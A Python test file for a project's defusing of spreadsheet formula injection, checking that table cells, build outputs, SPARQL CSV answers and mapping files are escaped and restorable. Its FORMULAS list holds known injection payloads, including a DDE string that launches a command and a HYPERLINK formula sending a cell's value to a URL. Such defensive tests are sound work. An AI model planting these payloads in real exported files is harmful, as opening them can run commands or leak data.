"""No cell of a table is a formula to a spreadsheet, and every value can be had back."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path

import pyoxigraph as ox
import pytest
from click.testing import CliRunner
from csvw import CSVW
from hypothesis import given
from hypothesis import strategies as st

from communique import resources
from communique.cells import defused, restored
from communique.cli import main
from communique.identity import sssom
from communique.linking import rows, table
from communique.linking.proposals import Proposal
from communique.publishing import answers, changes, tables
from communique.serving.sparql import Asked, answer

FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1)', "=cmd|' /C calc'!A0", "+1+cmd", "-2+3+cmd", "@SUM(1;1)",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "'=1+1", "''=1+1",
)  # fmt: skip
PLAIN = (
    "",
    "Jane Doe",
    "--05-25",
    "-5",
    "+41",
    "-1.50",
    "'Allo",
    "a=b",
    "– a dash",
    "https://example.org/=a",
)
BEGINNINGS = tuple("=+-@\t\r\n＝＋－＠")


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_is_defused(value: str) -> None:
    cell = defused(value)
    assert not cell.lstrip().startswith(BEGINNINGS)
    assert restored(cell) == value


@pytest.mark.parametrize("value", PLAIN)
def test_what_is_no_formula_stays(value: str) -> None:
    assert defused(value) == value == restored(value)


@given(st.text(alphabet=st.one_of(st.sampled_from("'=+-@\t\r\n ＝1a:."), st.characters())))
def test_every_value_comes_back(value: str) -> None:
    assert restored(defused(value)) == value


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n ＝＋－＠1.:-ab("), min_size=1))
def test_no_cell_begins_a_formula_but_a_number(value: str) -> None:
    cell = defused(value)
    assert not cell.lstrip().startswith(BEGINNINGS) or set(cell) <= set("+-0123456789.:")


HOSTILE = """---
title: '=HYPERLINK("http://example.org/")'
date: 2020-01-02
---
Foreign Minister Jane Doe of Austria met with officials in Vienna on 1 January 2020.
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A build of a text whose name and title are formulas."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "texts").mkdir()
    (folder / "texts" / "=1+1.txt").write_text(HOSTILE, encoding="utf-8")
    (folder / "texts" / "@SUM(1).md").write_text(HOSTILE, encoding="utf-8")
    done = CliRunner().invoke(main, ["build", str(folder / "texts"), "--out", str(folder / "out")])
    assert done.exit_code in (0, 1), done.output
    return folder / "out"


def cells(path: Path, delimiter: str = ",") -> list[str]:
    with path.open(encoding="utf-8", newline="") as stream:
        return [cell for row in csv.reader(stream, delimiter=delimiter) for cell in row]


def test_no_table_of_a_build_holds_a_formula(hostile: Path) -> None:
    found = [cell for path in sorted((hostile / "tables").glob("*.csv")) for cell in cells(path)]
    assert {"'=1+1.txt", "'@SUM(1).md"} <= set(found)
    assert [cell for cell in found if defused(restored(cell)) != cell] == []


def test_the_tables_stay_valid_and_refer_to_each_other(hostile: Path) -> None:
    assert CSVW(str(hostile / "tables" / tables.METADATA), validate=True).is_valid


def test_a_difference_between_builds_is_told_in_the_true_value(hostile: Path, tmp_path: Path) -> None:
    empty = tmp_path / "empty"
    shutil.copytree(hostile / "tables", empty / "tables")
    for path in (empty / "tables").glob("*.csv"):
        path.write_text(path.read_text(encoding="utf-8").split("\n")[0] + "\n", encoding="utf-8")
    found = [c for c in changes.facts(empty, hostile) if c.table == "documents"]
    assert sorted(change.after["document"] for change in found) == ["=1+1.txt", "@SUM(1).md"]


def test_answers_as_csv_hold_no_formula_and_other_formats_the_true_value() -> None:
    node, value = ox.NamedNode("https://example.org/a"), "=1+1"
    store = ox.Store()
    store.add(ox.Quad(node, node, ox.Literal(value)))
    query = "SELECT ?value { ?s ?p ?value }"
    found = answers.ask(store, query, "test")
    assert answers.comma_separated(found) == "value\r\n'=1+1\r\n"
    assert f'"{value}"' in answers.json_results(found)
    asked = {kind: answer(store, Asked(query, tables=(kind,)), 10).body.decode() for kind in ANSWERED}
    assert {kind: asked[kind].splitlines()[1] for kind in ANSWERED} == ANSWERED


ANSWERED = {"text/csv": "'=1+1", "text/tab-separated-values": '"=1+1"'}


def proposal(label: str) -> Proposal:
    return Proposal(
        subject="body/x", kind="body", label="X", object="http://www.wikidata.org/entity/Q1",
        object_label=label, score=80.0, match=False, service="https://example.org/reconcile",
    )  # fmt: skip


def test_the_table_of_proposals_holds_no_formula() -> None:
    head, row = table.text([proposal("=1+1")]).splitlines()
    assert dict(zip(head.split("\t"), row.split("\t"), strict=True))["object_label"] == "'=1+1"


def test_a_file_of_decisions_holds_no_formula_and_is_read_as_it_was_meant(root: Path, tmp_path: Path) -> None:
    path = tmp_path / "wikidata.sssom.tsv"
    shutil.copy(root / "mappings/wikidata.sssom.tsv", path)
    old = rows.sheet(path)
    hostile = {**old.rows[0], "object_label": "@SUM(1)"}
    path.write_text(rows.Sheet(old.head, old.columns, (hostile,), old.prefixes).text(), encoding="utf-8")
    assert "\t'@SUM(1)\t" in path.read_text(encoding="utf-8")
    assert sssom.read(path).rows[0].cell("object_label") == "@SUM(1)"


def test_a_spreadsheet_takes_none_for_a_formula(tmp_path: Path) -> None:
    office = shutil.which("soffice")
    if not office:
        pytest.skip("LibreOffice is not installed")
    stream = io.StringIO()
    csv.writer(stream, lineterminator="\r\n").writerows(
        [["=1+1", "bare"], *([defused(v), ""] for v in FORMULAS)]
    )
    (tmp_path / "all.csv").write_text(stream.getvalue(), encoding="utf-8", newline="")
    home = f"-env:UserInstallation={(tmp_path / 'home').as_uri()}"
    filled = ["--infilter=CSV:44,34,76", "--convert-to", "fods", "--outdir", str(tmp_path)]
    subprocess.run([office, home, "--headless", *filled, str(tmp_path / "all.csv")], check=True, timeout=120,
                   capture_output=True)  # fmt: skip
    assert (tmp_path / "all.fods").read_text(encoding="utf-8").count("table:formula=") == 1


def test_the_shipped_decisions_need_no_change() -> None:
    for path in sorted(resources.mappings().glob("*.sssom.tsv")):
        assert [cell for cell in cells(path, "\t") if defused(cell) != cell] == []
